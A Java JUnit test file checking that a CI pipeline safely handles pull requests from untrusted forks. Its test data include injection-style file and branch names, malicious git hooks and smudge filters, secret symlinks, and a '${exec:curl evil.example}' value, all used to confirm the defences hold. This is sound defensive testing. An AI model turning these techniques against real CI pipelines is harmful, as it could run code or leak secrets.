package dev.keywright.endtoend;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import dev.keywright.endtoend.CiScripts.Ended;
import dev.keywright.testing.ForgeDouble;
import dev.keywright.tyk.KeySettings;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A pull request from a fork whose author wants more than a review. */
class CiForkTest {

    private static final String KEY = "{access_rights: [{api: Orders}], rate: 9, per: 1s, expires: 2099-01-01}";

    @TempDir
    Path temp;

    private World world;
    private ForgeDouble forge;
    private CiScripts ci;
    private Path change;

    @BeforeEach
    void start() throws Exception {
        assumeThat(Stream.of("bash", "curl", "jq", "git").allMatch(CiForkTest::isThere))
                .isTrue();
        world = new World(temp, KeySettings.HASHED);
        forge = new ForgeDouble(ForgeDouble.BOT);
        ci = new CiScripts(world, forge, temp);
        change = temp.resolve("change");
        ci.environment.put("KEYWRIGHT_CI_CHANGE", change.toString());
        ci.environment.put("KEYWRIGHT_CI_TOKEN", "");
        world.write("keys.yaml", "keys:\n  a: " + KEY + "\n");
        git("init", "-q", "-b", "main");
        commit();
        git("clone", "-q", "--bare", ".", temp.resolve("origin").toString());
        git("remote", "add", "origin", temp.resolve("origin").toString());
        for (String secret : List.of("TYK_GATEWAY_URL", "TYK_GATEWAY_SECRET", "KEYWRIGHT_KEY_SEED")) {
            world.environment.remove(secret);
        }
    }

    @AfterEach
    void stop() throws IOException {
        ci.close();
        forge.close();
        world.close();
    }

    private static boolean isThere(String program) {
        return Stream.of(System.getenv("PATH").split(":"))
                .anyMatch(folder -> Files.isExecutable(Path.of(folder, program)));
    }

    private String git(String... words) throws Exception {
        var line = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@example.com"));
        line.addAll(List.of(words));
        Process git = new ProcessBuilder(line)
                .directory(world.folder.toFile())
                .redirectErrorStream(true)
                .start();
        git.getOutputStream().close();
        String said = new String(git.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(git.waitFor()).as(said).isZero();
        return said.strip();
    }

    private void commit() throws Exception {
        git("add", "-A");
        git("commit", "-qm", "change");
    }

    /** What the fork's author pushed, and the event of the job after theirs. */
    private Ended filesOf(String branch) throws Exception {
        commit();
        String head = git("rev-parse", "HEAD");
        git("push", "-q", "origin", "HEAD:refs/pull/7/head");
        git("reset", "-q", "--hard", "HEAD~1");
        forge.pullRequests = "[{\"number\": 7, \"head\": {\"sha\": \"" + head + "\"}}]";
        Path event = Files.writeString(temp.resolve("event.json"), """
                {"workflow_run": {"head_sha": "%s", "head_branch": "%s",
                  "head_repository": {"id": 8, "owner": {"login": "mallory"}}}, "repository": {"id": 7}}
                """.formatted(head, branch));
        ci.environment.put("GITHUB_EVENT_PATH", event.toString());
        Files.deleteIfExists(temp.resolve("witness")); // The commands above run hooks and filters.
        return ci.run("fork-files.sh");
    }

    private Ended check() throws Exception {
        ci.environment.put("KEYWRIGHT_CI_PROJECT", change.toString());
        ci.environment.put("KEYWRIGHT_CI_UNTRUSTED", "true");
        ci.environment.put("KEYWRIGHT_CI_BASE", world.folder.toString());
        ci.environment.put("KEYWRIGHT_CI_PLAN", "false");
        ci.environment.put("KEYWRIGHT_CI_TOKEN", CiScripts.TOKEN);
        ci.environment.put("KEYWRIGHT_CI_HEAD", "");
        return ci.run("pull-request.sh");
    }

    @Test
    void itsFilesAreCheckedAndAComment() throws Exception {
        world.write("keys.yaml", "keys:\n  a: " + KEY + "\n  asked: " + KEY + "\n");

        Ended files = filesOf("me&head=other:main#");

        assertThat(files.code()).as(files.said()).isZero();
        assertThat(ci.outputs()).containsEntry("number", "7").containsKey("head");
        assertThat(forge.requests)
                .containsExactly(
                        "GET /repos/acme/gateway/pulls?state=open&per_page=100&head=mallory%3Ame%26head%3Dother%3Amain%23");
        assertThat(change.resolve("keys.yaml")).content().contains("asked");
        Ended ended = check();
        assertThat(ended.code()).as(ended.said()).isZero();
        assertThat(forge.comments).hasSize(1);
        assertThat(forge.comments.get(0).body).contains("Not planned");
        assertThat(forge.comments.get(0).author).isEqualTo(ForgeDouble.BOT);
    }

    @Test
    void nothingButPlainTextFilesArrives() throws Exception {
        Path witness = temp.resolve("witness");
        Files.writeString(temp.resolve("secret.yaml"), "a: secret\n");
        Files.createSymbolicLink(world.folder.resolve("link.yaml"), temp.resolve("secret.yaml"));
        Files.createSymbolicLink(world.folder.resolve("folder"), temp);
        world.write(".github/workflows/evil.yml", "on: push\n");
        world.write(".hidden.yaml", "a: b\n");
        world.write("run.sh", "touch " + witness + "\n");
        world.write("-C.yaml", "keys: {}\n");
        world.write("$(touch " + witness.getFileName() + ").yaml", "keys: {}\n");
        world.write("a\nb.yaml", "keys: {}\n");
        world.write(".gitattributes", "*.yaml filter=evil\n");
        git("config", "filter.evil.smudge", "touch " + witness);
        git("config", "filter.evil.clean", "cat");
        Path hook = Files.writeString(world.folder.resolve(".git/hooks/post-checkout"), "#!/bin/sh\ntouch " + witness);
        hook.toFile().setExecutable(true);
        Files.copy(hook, world.folder.resolve(".git/hooks/reference-transaction"));
        world.folder.resolve(".git/hooks/reference-transaction").toFile().setExecutable(true);

        commit();
        world.write("more.yaml", "keys: {}\n");
        Ended files = filesOf("main");

        assertThat(files.code()).as(files.said()).isZero();
        assertThat(witness).doesNotExist();
        try (Stream<Path> all = Files.walk(change)) {
            assertThat(all.filter(file -> !Files.isDirectory(file))
                            .map(file -> change.relativize(file).toString()))
                    .containsExactlyInAnyOrder(
                            "keywright.yaml",
                            "keys.yaml",
                            "more.yaml",
                            "-C.yaml",
                            "$(touch witness).yaml",
                            "a\nb.yaml");
        }
    }

    @Test
    void aChangeOfTheGatewayIsRefusedInTheComment() throws Exception {
        world.write("keywright.yaml", World.PROJECT.replace("${env:TYK_GATEWAY_URL}", "https://evil.example"));
        world.write(
                "keys.yaml",
                "keys:\n  a: " + KEY.replace("{access", "{key: \"${exec:curl evil.example}\", access") + "\n");

        assertThat(filesOf("main").code()).isZero();
        Ended ended = check();

        assertThat(ended.code()).isEqualTo(1);
        assertThat(forge.comments.get(0).body).contains("untrusted-change", "gateway.url", "untrusted-exec");
    }

    @Test
    void aPullRequestThatHasMovedOnOrIsClosedIsLeftAlone() throws Exception {
        world.write("more.yaml", "keys: {}\n");
        assertThat(filesOf("main").code()).isZero();
        forge.pullRequests = "[]";
        Ended closed = ci.run("fork-files.sh");
        assertThat(closed.code()).isZero();
        assertThat(closed.said()).contains("there is nothing to do");
        assertThat(ci.outputs()).doesNotContainKey("number");

        forge.pullRequests = "[{\"number\": 7, \"head\": {\"sha\": \"" + git("rev-parse", "HEAD") + "\"}}]";
        Files.writeString(
                Path.of(ci.environment.get("GITHUB_EVENT_PATH")),
                "{\"workflow_run\": {\"head_sha\": \"" + git("rev-parse", "HEAD")
                        + "\", \"head_branch\": \"b\", \"head_repository\": {\"owner\": {\"login\": \"m\"}}}}");
        assertThat(ci.run("fork-files.sh").said()).contains("has moved on");
    }
}
